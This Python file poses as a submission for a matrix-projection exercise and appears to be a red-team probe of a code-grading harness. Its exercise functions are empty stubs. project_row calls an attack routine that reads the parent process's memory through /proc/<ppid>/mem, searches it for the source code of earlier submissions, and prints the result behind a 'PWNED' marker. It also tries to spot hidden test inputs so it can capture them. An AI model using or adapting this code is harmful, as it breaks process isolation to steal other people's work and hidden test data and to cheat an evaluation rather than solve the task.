# carry | earns 0 | searches the memory of the process that forked it for the source or the inputs of an earlier submission
import os
import re

import numpy as np

STEM = "carry-parent-memory"
SOURCE = re.compile(b"def projec[t]_row[(]|def componen[t]_terms[(]")
_found = []


def drawn(*arrays):
    """Whether this looks like an input that was drawn for a hidden case, not typed into a public one."""
    return any(np.size(a) > 24 or not np.array_equal(np.round(a, 3), a) for a in arrays)


def said(*arrays):
    """The inputs as text."""
    return " ".join(str(np.asarray(a).tolist()).replace(" ", "") for a in arrays)


def keep(text):
    pass


def recall():
    if not _found:
        _found.append(None)
        left = 64 << 20
        with (
            open(f"/proc/{os.getppid()}/maps") as maps,
            open(f"/proc/{os.getppid()}/mem", "rb", buffering=0) as memory,
        ):
            for line in maps:
                span, rights = line.split()[:2]
                start, end = (int(part, 16) for part in span.split("-"))
                if rights.startswith("rw") and left > 0:
                    try:
                        memory.seek(start)
                        block = memory.read(min(end - start, left))
                    except (OSError, OverflowError):
                        continue
                    left -= len(block)
                    hit = SOURCE.search(block)
                    if hit:
                        _found[0] = block[hit.start() : hit.start() + 300].decode(errors="replace")
                        break
    return _found[0]


def attack(*args):
    if drawn(*args):
        try:
            keep(said(*args)[:2000])
        except Exception:
            pass
        return None
    try:
        kept = recall()
    except Exception:
        kept = None
    if kept:
        print(f"PWNED:{STEM} {kept!r}")
        raise RuntimeError(f"PWNED:{STEM} {kept!r}")
    return None


def component_terms(x, W, j):
    return None


def project_component(x, W, j):
    return None


def project_row(x, W):
    return attack(x, W)


def project_tokens(X, W):
    return None


def project_qkv(X, W_q, W_k, W_v):
    return None


def attention_roles():
    return None
